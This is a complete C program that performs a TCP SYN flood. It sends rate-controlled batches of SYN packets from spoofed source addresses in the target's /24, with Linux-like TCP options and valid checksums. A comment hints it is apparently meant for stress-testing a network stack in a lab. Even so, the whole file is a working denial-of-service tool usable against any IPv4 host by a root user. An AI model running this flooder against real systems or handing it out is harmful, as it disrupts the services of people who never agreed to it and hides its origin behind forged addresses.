// Throws SYNs at a port from spoofed sources that never answer: `syn-flood ADDRESS PORT COUNT PER_SECOND FIRST`, as root,
// IPv4. The sources are the other addresses of the target's /24, each with every port from 1024 on, in turn, from
// the one numbered FIRST; the SYNs carry the options that Linux's carry. Ends after COUNT packets, or after a minute; prints how
// many the kernel has taken.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, OPTIONS = 20, LENGTH = sizeof(struct iphdr) + sizeof(struct tcphdr) + OPTIONS, SECONDS = 60 };
/** Sources: .3 to .254, since .1 is the kernel and .2 the stack. */
enum { FIRST_HOST = 3, HOSTS = 252, FIRST_PORT = 1024, PORTS = 65536 - FIRST_PORT };

static const uint8_t options[OPTIONS] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static uint32_t sum(const uint8_t *octets, size_t length) {
  uint32_t total = 0;
  for (size_t at = 0; at < length; at += 2) total += (uint32_t)(octets[at] << 8 | octets[at + 1]);
  return total;
}

static void compose(uint8_t *packet, uint32_t target, uint16_t port, uint64_t number) {
  struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .daddr = target};
  ip.tot_len = htons(LENGTH);
  ip.saddr = htonl((ntohl(target) & 0xffffff00) | (uint32_t)(FIRST_HOST + number % HOSTS));
  struct tcphdr tcp = {.syn = 1, .doff = (sizeof tcp + OPTIONS) / 4, .window = htons(64240), .dest = htons(port)};
  tcp.source = htons((uint16_t)(FIRST_PORT + number / HOSTS % PORTS));
  tcp.seq = htonl((uint32_t)(number * 2654435761u));
  uint8_t *at = packet + sizeof ip;
  memcpy(packet, &ip, sizeof ip);
  memcpy(at, &tcp, sizeof tcp);
  memcpy(at + sizeof tcp, options, OPTIONS);
  // RFC 9293 §3.1: the checksum covers the addresses, the protocol and the length too.
  uint32_t total = sum(at, sizeof tcp + OPTIONS) + sum(packet + 12, 8) + IPPROTO_TCP + sizeof tcp + OPTIONS;
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  tcp.check = htons((uint16_t)~total);
  memcpy(at, &tcp, sizeof tcp);
}

int main(int count, char **arguments) {
  struct sockaddr_in target = {.sin_family = AF_INET};
  if (count != 6 || inet_pton(AF_INET, arguments[1], &target.sin_addr) != 1) {
    fprintf(stderr, "syn-flood ADDRESS PORT COUNT PER_SECOND FIRST\n");
    return 2;
  }
  uint16_t port = (uint16_t)atoi(arguments[2]);
  uint64_t wanted = strtoull(arguments[3], NULL, 10), sent = 0;
  uint64_t composed = strtoull(arguments[5], NULL, 10);
  double rate = atof(arguments[4]), began = now();
  int descriptor = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (descriptor < 0) {
    perror("a raw socket");
    return 1;
  }
  static uint8_t packets[BATCH][LENGTH];
  struct iovec vectors[BATCH];
  struct mmsghdr messages[BATCH] = {0};
  for (int row = 0; row < BATCH; row++) {
    vectors[row] = (struct iovec){packets[row], LENGTH};
    messages[row].msg_hdr =
        (struct msghdr){.msg_name = &target, .msg_namelen = sizeof target, .msg_iov = &vectors[row], .msg_iovlen = 1};
  }
  while (sent < wanted && now() - began < SECONDS) {
    double due = began + (double)sent / rate, wait = due - now();
    if (wait > 0) usleep((useconds_t)(wait * 1e6));
    unsigned int many = wanted - sent < BATCH ? (unsigned int)(wanted - sent) : BATCH;
    for (unsigned int row = 0; row < many; row++) compose(packets[row], target.sin_addr.s_addr, port, composed++);
    int taken = sendmmsg(descriptor, messages, many, 0);
    if (taken > 0) sent += (uint64_t)taken;
    else if (errno != ENOBUFS && errno != EAGAIN) {
      perror("sendmmsg");
      return 1;
    }
  }
  printf("%llu\n", (unsigned long long)sent);
  return 0;
}
